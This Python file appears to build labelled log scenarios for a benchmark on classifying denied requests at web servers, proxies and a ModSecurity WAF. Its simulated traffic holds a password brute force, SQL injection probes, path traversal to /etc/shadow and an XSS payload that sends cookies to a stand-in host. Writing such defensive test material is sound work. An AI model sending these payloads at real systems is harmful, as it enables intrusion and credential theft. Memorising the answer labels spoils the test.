"""Apache, HAProxy, Caddy and Squid by their own rules; ModSecurity with the Core Rule Set before a shop."""
import os, subprocess
from stage import at, sec, BROWSERS, NAMES
import servers, waf
from servers import setting, page

GROUP = "doors"
FAULTS = []
def fault(f): FAULTS.append(f); return f


def users(*pairs):
    for name, secret in pairs: subprocess.run(["htpasswd", "-mb", setting("users", "") if name == pairs[0][0] else "/srv/etc/users", name, secret], check=True, capture_output=True)


@fault
def apache_groups_and_passwords(c):
    c.starts.append(lambda: users(*[(n, "right-" + n) for n in NAMES[:12]]))
    c.starts.append(lambda: setting("groups", "board: adele bruno\n"))
    page("board/index.html"); page("private/index.html")
    c.apache('<Location /board>\n  AuthType Basic\n  AuthName board\n  AuthUserFile /srv/etc/users\n  AuthGroupFile /srv/etc/groups\n  Require group board\n</Location>\n<Location /private>\n  AuthType Basic\n  AuthName private\n  AuthUserFile /srv/etc/users\n  Require valid-user\n</Location>')
    c.people(at(9), at(10), every=30)
    for n in range(6): c.get(at(9, 4 + 8 * n), "192.0.2.30", "/board/", user="adele:right-adele", agent=BROWSERS[0])
    g = c.incident("not in the group", "proxy", "permission-missing", "working-as-intended", "single")
    w = c.incident("mistyped", "proxy", "credential-wrong", "caller-fault", "single")
    b = c.incident("guesses at bruno's password", "proxy", "credential-wrong", "attack", "brute-force")
    for n in (4, 6, 9): c.get(at(9, 7 + 4 * n), "192.0.2.%d" % (40 + n), "/board/", user="%s:right-%s" % (NAMES[n], NAMES[n]), deny=g, principal=NAMES[n], agent=BROWSERS[n % 4])
    for n in (3, 5): c.get(at(9, 9 + 5 * n), "192.0.2.%d" % (40 + n), "/private/", user="%s:rihgt" % NAMES[n], deny=w, principal=NAMES[n], agent=BROWSERS[n % 4]); c.get(at(9, 9 + 5 * n, 12), "192.0.2.%d" % (40 + n), "/private/", user="%s:right-%s" % (NAMES[n], NAMES[n]), agent=BROWSERS[n % 4])
    t = at(9, 20)
    for n in range(80): c.get(t, "203.0.113.77", "/private/", user="bruno:pw%d" % n, deny=b, principal="bruno", agent="Mozilla/5.0 (Hydra)"); t += sec(c.random.uniform(.4, 3))


@fault
def apache_closed_folders(c):
    page("internal/a.txt"); page("pub/b.txt"); page("files/a.txt"); os.symlink("/etc/hostname", "/srv/www/pub/link")
    c.apache("<Directory /srv/www/internal>\n  Require all denied\n</Directory>\n<Directory /srv/www/pub>\n  Options -Indexes -FollowSymLinks\n</Directory>\n<Directory /srv/www/files>\n  <LimitExcept GET HEAD>\n    Require all denied\n  </LimitExcept>\n</Directory>\nRewriteEngine On\nRewriteRule ^/old/ - [F]")
    c.people(at(9), at(10), every=30)
    one = lambda title, cause, **more: c.incident(title, "proxy", cause, "working-as-intended", "single", **more)
    for n, (m, path, i) in enumerate([("GET", "/internal/a.txt", one("closed folder", "server-rule", acceptable={"cause": ["address-blocked"]})), ("GET", "/pub/", one("no listing", "directory-listing-off")), ("GET", "/pub/link", one("symbolic link", "symlink-refused", acceptable={"verdict": ["misconfiguration"]})),
                                      ("DELETE", "/files/a.txt", one("deletion", "method-refused", acceptable={"verdict": ["caller-fault"], "cause": ["server-rule"]})), ("GET", "/old/shop", one("rewritten away", "server-rule"))]):
        for k in range(2): c.send(at(9, 6 + 10 * n + 4 * k), "192.0.2.%d" % (40 + 2 * n + k), m, path, deny=i, agent=BROWSERS[(n + k) % 4])


@fault
def apache_house_network(c):
    """only the house's network and two partners may pass; one partner's address has changed"""
    page("api/stock.json", "{}\n")
    c.apache("<Location /api>\n  Require ip 192.0.2.0/26 203.0.113.16/28\n</Location>")
    c.known = 'partners:\n  - {name: delta, networks: [203.0.113.16/28], user_agents: ["DeltaFeed/*"], owner: sales}\n'
    c.people(at(9), at(11), every=50)
    d = c.incident("partner delta from a new address", "proxy", "allowlist-drift", "misconfiguration", "steady", acceptable={"pattern": ["retry-loop"]})
    s = c.incident("strangers at the API", "proxy", "address-not-allowlisted", "working-as-intended", "single")
    t = at(9)
    while t < at(9, 50): c.get(t, "203.0.113.20", "/api/stock.json", agent="DeltaFeed/3.0"); t += sec(150)
    while t < at(11): c.get(t, "203.0.113.51", "/api/stock.json", agent="DeltaFeed/3.0", deny=d); t += sec(150)
    for n in range(3): c.get(at(9, 20 + 20 * n), "198.51.100.%d" % (30 + n), "/api/stock.json", agent=BROWSERS[n], deny=s)


@fault
def crs_on_customers_and_attackers(c):
    """nginx with ModSecurity 3 and the Core Rule Set: a customer's sentence and a probe meet the same rules"""
    waf.nginx(c, audit=True)
    c.people(at(9), at(10, 30), every=25)
    f = c.incident("customers' notes taken for injection", "waf", "waf-rule", "misconfiguration", "single", acceptable={"pattern": ["steady"]})
    a = c.incident("injection probes", "waf", "waf-rule", "attack", "exploit-attempt")
    x = c.incident("path probes", "waf", "waf-rule", "attack", "exploit-attempt", acceptable={"pattern": ["scan"]})
    for n in range(12): c.send(at(9, 3) + sec(400 * n), "192.0.2.%d" % (24 + n % 11), "POST", "/notes/save", headers=[("Content-Type", "application/x-www-form-urlencoded")], body="note=" + ("order+by+3%3B+select+*+from+menu+where+x%3D1", "union+select+committee", "SELECT+name%2C+price+FROM+products+WHERE+price+%3E+10")[n % 3], agent=BROWSERS[n % 4], deny=f, also=("modsec_audit.log",), referer="https://shop.example/notes")
    t = at(9, 40)
    for n in range(40): c.get(t, "203.0.113.66", "/search?q=1%%27%%20UNION%%20SELECT%%20%d,password%%20FROM%%20users--%%20" % n, agent="Mozilla/5.0", deny=a, also=("modsec_audit.log",)); t += sec(c.random.uniform(.5, 3))
    t = at(9, 50)
    for n in range(20): c.get(t, "198.51.100.66", "/download?file=../../../../etc/%s%d" % (("passwd", "shadow")[n % 2], n), agent="curl/7.1", deny=x, also=("modsec_audit.log",)); t += sec(c.random.uniform(.5, 3))


@fault
def apache_modsecurity(c):
    waf.apache(c)
    c.people(at(9), at(10), every=30)
    f = c.incident("developer documents with code in them", "waf", "waf-rule", "misconfiguration", "single", acceptable={"pattern": ["steady"]})
    a = c.incident("script injection", "waf", "waf-rule", "attack", "exploit-attempt")
    for n in range(8): c.send(at(9, 5) + sec(380 * n), "192.0.2.%d" % (24 + n), "POST", "/docs/save", headers=[("Content-Type", "application/x-www-form-urlencoded")], body="text=Use+%3Cscript%3Ealert%28%27hello%27%29%3C%2Fscript%3E+in+the+example", agent=BROWSERS[n % 4], referer="https://shop.example/docs/edit", deny=f, also=("modsec_audit.log",))
    t = at(9, 30)
    for n in range(25): c.get(t, "203.0.113.166", "/?q=%%3Cscript%%3Edocument.location=%%27//x%d.example/%%27%%2Bdocument.cookie%%3C/script%%3E" % n, agent="python-requests/2.31.0", deny=a, also=("modsec_audit.log",)); t += sec(c.random.uniform(.5, 3))


@fault
def haproxy_rules(c):
    c.starts.append(lambda: setting("shop.json", "{}"))
    c.haproxy("  acl internal path_beg /internal\n  acl house src 10.0.0.0/8\n  http-request deny if internal !house\n  acl bad_agent hdr_sub(user-agent) -i masscan zgrab\n  http-request deny deny_status 403 if bad_agent\n  stick-table type ip size 1k expire 60s store http_req_rate(10s)\n  http-request track-sc0 src\n  http-request deny deny_status 429 if { sc_http_req_rate(0) gt 20 }")
    c.node("quiet.mjs", 8080, "quiet.log")
    c.people(at(9), at(10), every=25)
    a = c.incident("internal pages from outside", "proxy", "address-not-allowlisted", "working-as-intended", "single", acceptable={"cause": ["server-rule"]})
    u = c.incident("scanner by its name", "proxy", "user-agent-blocked", "attack", "scan", acceptable={"verdict": ["unwanted-automation"], "cause": ["server-rule"]})
    r = c.incident("over the rate", "proxy", "rate-limited", "unwanted-automation", "scrape", acceptable={"pattern": ["retry-loop"]})
    for n in range(3): c.get(at(9, 10 + 12 * n), "192.0.2.%d" % (50 + n), "/internal/stats", agent=BROWSERS[n], deny=a)
    t = at(9, 25)
    for n in range(30): c.get(t, "198.51.100.80", ("/admin", "/phpmyadmin/", "/.env", "/backup.zip", "/wp-login.php")[n % 5] + "?%d" % n, agent="Mozilla/5.0 zgrab/0.x", deny=u); t += sec(12)
    for n in range(70): c.get(at(9, 45) + sec(n * .1), "203.0.113.9", "/catalog/%d" % n, agent="Scrapy/2.11", deny=r if n >= 20 else None, status=429 if n >= 20 else 200)


@fault
def balancer_in_front_of_a_list(c):
    """nginx lists the partner's addresses but sees only the balancer that was put before it"""
    page("api/feed", "{}\n")
    c.known = "proxies:\n  - {name: lb1, networks: [10.20.0.0/24]}\npartners:\n  - {name: acme, networks: [203.0.113.0/28], user_agents: [\"AcmeSync/*\"]}\n"
    c.haproxy("  option forwardfor", backend="server web1 10.20.0.3:80")
    c.nginx("location /api/ { allow 203.0.113.0/28; deny all; }", address="10.20.0.3", name="nginx", format="main")
    c.people(at(9), at(10), every=30)
    i = c.incident("the list sees the balancer", "proxy", "wrong-client-address", "misconfiguration", "steady", acceptable={"pattern": ["retry-loop", "single"]})
    for n in range(30): c.get(at(9, 2) + sec(110 * n), "203.0.113.%d" % (4 + n % 3), "/api/feed", agent="AcmeSync/2.1", deny=i)


@fault
def caddy_matchers(c):
    page("private/a.txt"); page("img/a.jpg")
    c.caddy('\troot * /srv/www\n\t@outside {\n\t\tpath /private/*\n\t\tnot remote_ip 10.0.0.0/8\n\t}\n\trespond @outside 403\n\t@writes method PUT DELETE\n\trespond @writes 405\n\t@copier header User-Agent *HTTrack*\n\trespond @copier 403\n\tfile_server')
    c.people(at(9), at(10), every=25)
    a = c.incident("private files from outside", "proxy", "address-not-allowlisted", "working-as-intended", "single", acceptable={"cause": ["server-rule"]})
    u = c.incident("site copier", "proxy", "user-agent-blocked", "unwanted-automation", "scrape", acceptable={"cause": ["server-rule"], "pattern": ["retry-loop", "steady"]})
    for n in range(3): c.get(at(9, 10 + 12 * n), "192.0.2.%d" % (50 + n), "/private/a.txt", agent=BROWSERS[n], deny=a)
    for n in range(30): c.get(at(9, 30) + sec(2 * n), "203.0.113.55", "/shop/%d" % n, agent="Mozilla/4.5 (compatible; HTTrack 3.0x; Windows 98)", deny=u)


@fault
def squid_office(c):
    """an office's way out: a domain refused, a proxy password not sent"""
    c.starts.append(lambda: users(("adele", "right-adele"), ("bruno", "right-bruno")))
    c.nginx("", address="10.20.0.1", name="origin", keep=False)
    c.squid("acl bad dstdomain -n .casino.example\nacl known proxy_auth REQUIRED\nhttp_access deny bad\nhttp_access allow known\nhttp_access deny all", address="10.20.0.4", auth="auth_param basic program /usr/lib/squid/basic_ncsa_auth /srv/etc/users\nauth_param basic realm office")
    c.logs = {k: v for k, v in c.logs.items() if k == "squid.log"}
    ask = lambda who: [("Proxy-Authorization", "Basic " + __import__("base64").b64encode(("%s:right-%s" % (who, who)).encode()).decode())]
    d = c.incident("site refused", "proxy", "server-rule", "working-as-intended", "single", acceptable={"cause": ["explicit-deny"]})
    m = c.incident("no proxy password", "proxy", "credential-missing", "caller-fault", "single", acceptable={"verdict": ["working-as-intended"]})
    for n in range(60): who = NAMES[n % 2]; c.get(at(9, 1) + sec(55 * n), "10.20.7.%d" % (4 + n % 2), "http://app.internal/shop/4", host="app.internal", headers=ask(who), agent=BROWSERS[n % 4])
    for n in range(3): c.get(at(9, 12 + 14 * n), "10.20.7.%d" % (4 + n % 2), "http://www.casino.example/", host="www.casino.example", headers=ask(NAMES[n % 2]), agent=BROWSERS[n], deny=d)
    for n in range(2): c.get(at(9, 22 + 20 * n), "10.20.7.%d" % (30 + n), "http://app.internal/", host="app.internal", agent=BROWSERS[n], deny=m, status=407)
